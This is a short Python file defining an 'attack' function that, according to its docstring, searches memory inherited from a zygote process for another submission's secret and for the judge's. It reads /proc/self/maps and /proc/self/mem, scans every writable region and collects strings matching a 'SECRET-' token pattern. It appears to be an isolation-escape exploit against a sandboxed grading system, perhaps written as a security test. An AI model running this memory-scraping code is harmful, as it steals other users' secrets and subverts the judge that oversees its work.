import re


def attack(facts):
    """Search what was inherited from the zygote for another submission's secret, and for the judge's."""
    found = {}
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", buffering=0) as memory:
        for line in maps:
            span, rights = line.split()[:2]
            if not rights.startswith("rw"):
                continue
            start, end = (int(part, 16) for part in span.split("-"))
            try:
                memory.seek(start)
                content = memory.read(end - start)
            except (OSError, ValueError, OverflowError):
                continue
            for match in re.finditer(rb"SECRET-[0-9a-f]{32}", content):
                found[match[0].decode()] = span
    return found
